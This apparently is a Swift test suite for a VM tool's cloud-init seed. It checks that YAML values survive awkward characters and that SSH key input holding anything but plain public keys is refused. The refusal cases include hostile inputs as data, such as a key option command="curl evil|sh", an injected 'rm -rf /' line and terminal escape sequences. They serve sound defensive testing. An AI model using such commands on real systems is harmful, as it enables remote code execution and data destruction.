import Foundation
import Testing
@testable import VMToolsCore
@testable import VMToolsLaunch

/// What a cloud-init seed takes from a VM directory cannot change what the
/// seed says (issue 22): YAML scalars read back exactly by a YAML 1.1 reader
/// (PyYAML, as cloud-init), whatever characters they hold, and SSH key files
/// give plain public keys only, line by line whatever the line ends.
@Suite struct CloudInitInputTests {
    static let ed25519 = "AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f"
    static let rsa = "AAAAB3NzaC1yc2EAAAADAQABAAAACQAREREREREREQ=="
    static func scalar(_ v: UInt32) -> String { Unicode.Scalar(v).map { String($0) } ?? "?" }

    /// Strings YAML reads as something else when written raw: controls, C1,
    /// line breaks of YAML 1.1 (NEL, U+2028, U+2029), BOM, non-characters.
    static var hostile: [String] {
        ["plain", "quote\"back\\slash", "tab\there", "cr\rlf\n", "nul\u{0}bel\u{7}esc\u{1B}del\u{7F}", "c1\u{80}\u{85}\u{9B}\u{9F}",
         "ls" + scalar(0x2028) + "ps" + scalar(0x2029), "bom" + scalar(0xFEFF), "nc" + scalar(0xFFFE) + scalar(0xFFFF),
         "é日本😀" + scalar(0x10FFFF), "#not a comment", "- not a list", "key: value", "&anchor *alias !tag", "'single'", "", " lead", "trail "]
    }

    /// Each YAML document's value as Python's yaml.safe_load reads it, as JSON.
    static func pyYAML(_ documents: [String]) throws -> [String] {
        let script = """
            import sys, json, yaml
            for f in sys.argv[1:]:
                with open(f, encoding="utf-8") as h:
                    print(json.dumps(yaml.safe_load(h), ensure_ascii=True))
            """
        let s = Scratch()
        let files = try documents.enumerated().map { try s.write("doc\($0.offset).yaml", $0.element) }
        let r = try Subprocess("/usr/bin/python3", ["-c", script] + files).run()
        #expect(r.status == 0, "\(r.stderrText)")
        return r.stdoutText.split(separator: "\n").map(String.init)
    }

    /// `s` as Python's json.dumps(ensure_ascii=True) writes it.
    static func pythonJSON(_ s: String) -> String {
        var out = "\""
        for u in s.utf16 {
            switch u {
            case 0x22: out += "\\\""
            case 0x5C: out += "\\\\"
            case 0x0A: out += "\\n"
            case 0x0D: out += "\\r"
            case 0x09: out += "\\t"
            case 0x08: out += "\\b"
            case 0x0C: out += "\\f"
            case 0x20...0x7E: out.unicodeScalars.append(Unicode.Scalar(UInt8(u)))
            default:
                let h = String(u, radix: 16)
                out += "\\u" + String(repeating: "0", count: 4 - h.count) + h
            }
        }
        return out + "\""
    }

    static var hasPyYAML: Bool {
        (try? Subprocess("/usr/bin/python3", ["-c", "import yaml"]).run().status) == 0
    }

    @Test(.enabled(if: hasPyYAML || ProcessInfo.processInfo.environment["CI"] == "true", "needs python3 with yaml (python3-yaml)"))
    func everyScalarReadsBackExactly() throws {
        let docs = Self.hostile.map { "value: \(CloudInitModule.yamlQuote($0))\n" }
        let back = try Self.pyYAML(docs)
        #expect(back.count == docs.count)
        for (s, b) in zip(Self.hostile, back) {
            #expect(b == "{\"value\": \(Self.pythonJSON(s))}", "\(s.debugDescription) → \(b)")
        }
    }

    /// The seed's meta-data and user-data, with a hostile instance id and
    /// name: cloud-init's YAML reader gets every value back.
    @Test(.enabled(if: hasPyYAML || ProcessInfo.processInfo.environment["CI"] == "true", "needs python3 with yaml (python3-yaml)"))
    func theSeedFilesParseWithHostileValues() throws {
        let s = Scratch()
        let id = "iid-\u{9B}\u{85}" + Self.scalar(0xFFFE) + "\"\\\n"
        let key = "ssh-ed25519 \(Self.ed25519) ann é" + Self.scalar(0x2028) + "\""
        let c = try CloudInitTests().plan(s, ["vm_cloudinit_sshkey": key, "vm_cloudinit_instanceid": id])
        let files = try #require(c.plan.seedVolumes.first?.files)
        let meta = try #require(files.first { $0.name == "meta-data" }?.content)
        let user = try #require(files.first { $0.name == "user-data" }?.content)
        let back = try Self.pyYAML([meta, user])
        #expect(back.first?.contains("\"instance-id\": \(Self.pythonJSON(id))") == true, "\(back)")
        #expect(back.last?.contains("\"ssh_authorized_keys\": [\(Self.pythonJSON(key))]") == true, "\(back)")
    }

    /// A key file's lines, accepted (the keys) or refused (naming file and line).
    func keys(_ s: Scratch, _ text: String) throws -> Result<[String], VMToolsError> {
        let file = try s.write("keys-\(UUID().uuidString).pub", text)
        do {
            let c = try CloudInitTests().plan(s, ["vm_cloudinit_sshkey": file])
            return .success(try #require(try c.vm.cloudInitKeys(home: s.url("vm"), environment: [:])?.keys))
        } catch let e as VMToolsError {
            return .failure(e)
        }
    }

    @Test(arguments: [
        ("ssh-ed25519 \(ed25519) a\r\nssh-rsa \(rsa) b\r\n", ["ssh-ed25519 \(ed25519) a", "ssh-rsa \(rsa) b"]),
        ("ssh-ed25519 \(ed25519) a\rssh-rsa \(rsa) b", ["ssh-ed25519 \(ed25519) a", "ssh-rsa \(rsa) b"]),
        ("# mine\n\n  ssh-ed25519 \(ed25519)  \t\n", ["ssh-ed25519 \(ed25519)"]),
        ("ssh-ed25519 \(ed25519) ann@host with spaces\n", ["ssh-ed25519 \(ed25519) ann@host with spaces"]),
    ])
    func publicKeysAreTakenWhateverTheLineEnds(_ text: String, _ expected: [String]) throws {
        #expect(try keys(Scratch(), text).get() == expected)
    }

    @Test(arguments: [
        ("ssh-ed25519 \(ed25519) a\r\ngarbage after the key\r\n", 2, "a line starts with its type"),
        ("command=\"curl evil|sh\" ssh-ed25519 \(ed25519) a\n", 1, "options such as command= are not taken"),
        ("no-pty,from=\"*\" ssh-rsa \(rsa)\n", 1, "options such as command= are not taken"),
        ("ssh-rsa \(ed25519) a\n", 1, "the key's own type is not ssh-rsa"),
        ("ssh-ed25519 AAAA!!!! a\n", 1, "is not base64"),
        ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB a\n", 1, "is not base64"),
        ("ssh-ed25519\n", 1, "is not base64"),
        ("# c\nssh-ed25519 \(ed25519) a\u{9B}[2J\n", 2, "the comment after the key holds a control character"),
        ("ssh-ed25519 \(ed25519) a\u{1B}]0;x\u{7}\n", 1, "the comment after the key holds a control character"),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\n", 1, "a line starts with its type"),
    ])
    func anythingButAPublicKeyIsRefusedNamingFileAndLine(_ text: String, _ line: Int, _ why: String) throws {
        let s = Scratch()
        switch try keys(s, text) {
        case .success(let k): Issue.record("taken: \(k)")
        case .failure(let e):
            #expect(e.subject == "vm_cloudinit_sshkey", "\(e.description)")
            #expect(e.message.contains(".pub:\(line): ") && e.message.contains(why), "\(e.description)")
            #expect(!e.description.contains("\n"))
        }
    }

    /// Key text in the setting follows the same rule, line by line.
    @Test func keyTextInTheSettingIsCheckedToo() throws {
        let s = Scratch()
        #expect(throws: VMToolsError.self) { try CloudInitTests().plan(s, ["vm_cloudinit_sshkey": "ssh-ed25519 \(Self.ed25519) a\nrm -rf /"]) }
        #expect(throws: VMToolsError.self) { try CloudInitTests().plan(s, ["vm_cloudinit_sshkey": "ssh-rsa \(Self.ed25519) a"]) }
        let c = try CloudInitTests().plan(s, ["vm_cloudinit_sshkey": "ssh-ed25519 \(Self.ed25519) a\r\nssh-rsa \(Self.rsa) b"])
        let user = try #require(c.plan.seedVolumes.first?.files.first { $0.name == "user-data" }?.content)
        #expect(user.contains("      - \"ssh-ed25519 \(Self.ed25519) a\"\n      - \"ssh-rsa \(Self.rsa) b\"\n"), "\(user)")
    }
}
